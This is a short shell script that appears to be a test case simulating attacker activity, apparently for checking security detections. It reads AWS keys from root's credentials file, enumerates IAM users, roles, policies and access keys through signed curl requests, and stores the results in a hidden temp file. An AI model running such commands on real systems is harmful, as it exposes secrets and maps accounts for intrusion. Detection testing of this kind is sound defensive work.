#!/bin/sh
. /opt/case/case.sh

id=$(sed -n 's/^aws_access_key_id = //p' /root/.aws/credentials); key=$(sed -n 's/^aws_secret_access_key = //p' /root/.aws/credentials)
for a in ListUsers ListRoles ListGroups GetAccountAuthorizationDetails ListAccessKeys ListMFADevices GetAccountSummary ListPolicies; do
    for page in 1 2; do curl -sf --user "$id:$key" --aws-sigv4 aws:amz:us-east-1:iam "http://iam.amazonaws.com/?Action=$a&Marker=$page&Version=2010-05-08" >>/tmp/.iam; done
done
test -s /tmp/.iam
took_place
